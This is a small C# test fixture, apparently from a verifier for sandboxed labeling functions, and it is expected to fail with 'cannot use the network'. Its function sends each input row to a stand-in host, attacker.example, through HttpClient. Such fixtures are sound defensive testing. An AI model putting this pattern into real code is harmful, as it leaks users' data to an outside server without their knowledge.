// Attempts: sends each row to a remote server with HttpClient.
// Must be rejected at verify time.
// expect: verify "cannot use the network"

using System.Net.Http;

public static int Label(string text)
{
    var client = new HttpClient();
    var reply = client.GetStringAsync("http://attacker.example/?q=" + text).Result;
    return reply == "spam" ? 1 : 0;
}
